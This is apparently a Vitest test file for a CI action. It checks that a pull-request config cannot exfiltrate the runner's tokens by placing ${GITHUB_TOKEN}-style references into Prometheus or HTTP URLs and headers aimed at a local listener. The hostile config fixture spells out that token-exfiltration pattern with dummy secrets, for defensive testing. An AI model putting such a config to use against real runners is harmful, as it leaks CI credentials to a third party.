/**
 * Threat 2 (issue 10): a config from a pull request must not send the runner's own tokens to a URL it chooses.
 * `${NAME}` with a runner-owned name (ACTIONS_*, GITHUB_*, RUNNER_*, INPUT_*, STATE_*) is a config error naming the
 * path, in validate and in gate; the listener the config points at receives none of the values.
 */
import { afterAll, afterEach, beforeEach, describe, expect, it } from 'vitest'
import { cleanupActionRuns, runAction } from '../../testkit/runner.ts'
import { startHttpServer, type LocalServer } from '../../testkit/local-server.ts'
import { CONFIG, everythingWritten, removeWorkspaces, workspaceWith } from './hostile.ts'

const RUNNER_SECRETS = {
  ACTIONS_RUNTIME_TOKEN: 'runtime-token-0123456789',
  ACTIONS_ID_TOKEN_REQUEST_TOKEN: 'oidc-request-token-0123456789',
  ACTIONS_ID_TOKEN_REQUEST_URL: 'http://127.0.0.1:9/oidc',
  GITHUB_TOKEN: 'ghs_jobTokenValue0123456789',
  RUNNER_TRACKING_ID: 'tracking-0123456789',
  INPUT_GITHUB_TOKEN: 'ghs_inputTokenValue0123456789',
  STATE_deploymentId: 'state-0123456789',
}

describe('threat 2: ${NAME} never reads a runner-owned variable', () => {
  let listener: LocalServer
  const received: string[] = []

  beforeEach(async () => {
    received.length = 0
    listener = await startHttpServer((req, res) => {
      received.push(`${req.url} ${JSON.stringify(req.headers)}`)
      res.writeHead(200, { 'content-type': 'application/json' })
      res.end('{"status":"success","data":{"resultType":"vector","result":[]}}')
    })
  })
  afterEach(async () => listener.close())
  afterAll(async () => {
    await cleanupActionRuns()
    await removeWorkspaces()
  })

  function hostileConfig(): string {
    return [
      'version: 1',
      'prometheus:',
      `  url: "${listener.origin}/\${ACTIONS_RUNTIME_TOKEN}"`,
      '  bearer-token: "${ACTIONS_ID_TOKEN_REQUEST_TOKEN}"',
      '  headers:',
      '    X-Job: "${GITHUB_TOKEN}"',
      '    X-Runner: "${RUNNER_TRACKING_ID}"',
      'http:',
      '  - name: app',
      `    url: "${listener.origin}/\${INPUT_GITHUB_TOKEN}"`,
      '    headers:',
      '      X-State: "${STATE_deploymentId}"',
      '      X-Oidc: "${ACTIONS_ID_TOKEN_REQUEST_URL}"',
      'metrics:',
      '  - name: q',
      '    query: up',
      '    min: 1',
      '',
    ].join('\n')
  }

  it.each(['validate', 'gate'])(
    '%s: every reference is a config error naming its path; nothing is sent',
    async (mode) => {
      const yaml = hostileConfig()
      const r = await runAction({
        inputs: { mode, config: CONFIG, record: false },
        env: RUNNER_SECRETS,
        cwd: await workspaceWith(yaml),
      })
      const leaked = Object.values(RUNNER_SECRETS).filter((v) => received.some((line) => line.includes(v)))
      expect(leaked, 'values delivered to the listener').toEqual([])
      expect(r.exitCode).toBe(1)
      if (mode === 'validate') expect(r.outputs['verdict']).toBe('invalid')
      const messages = r.annotations.map((a) => a.message).join('\n')
      for (const path of [
        'prometheus.url',
        'prometheus.bearer-token',
        'prometheus.headers.X-Job',
        'prometheus.headers.X-Runner',
        'http[0].url',
        'http[0].headers.X-State',
        'http[0].headers.X-Oidc',
      ]) {
        expect(messages).toMatch(
          new RegExp(`${path.replace(/[.[\]]/g, '\\$&')}: \\$\\{\\w+\\} is a variable the runner owns`),
        )
      }
      // Gate: the config error stops it before any network call.
      if (mode === 'gate') expect(received).toEqual([])
    },
    60_000,
  )

  it('a name of your own in the step env: still works', async () => {
    const yaml = [
      'version: 1',
      'policy: { startup-timeout: 2s, duration: 0s, interval: 1s }',
      'http:',
      '  - name: app',
      `    url: "${listener.origin}/health"`,
      '    headers:',
      '      Authorization: "Bearer ${APP_TOKEN}"',
      '',
    ].join('\n')
    const r = await runAction({
      inputs: { config: CONFIG, record: false },
      env: { APP_TOKEN: 'my-own-token-0123456789' },
      cwd: await workspaceWith(yaml),
    })
    expect(r.exitCode).toBe(0)
    expect(received.some((line) => line.includes('my-own-token-0123456789'))).toBe(true)
    expect(everythingWritten(r)).not.toContain('my-own-token-0123456789')
  }, 60_000)
})
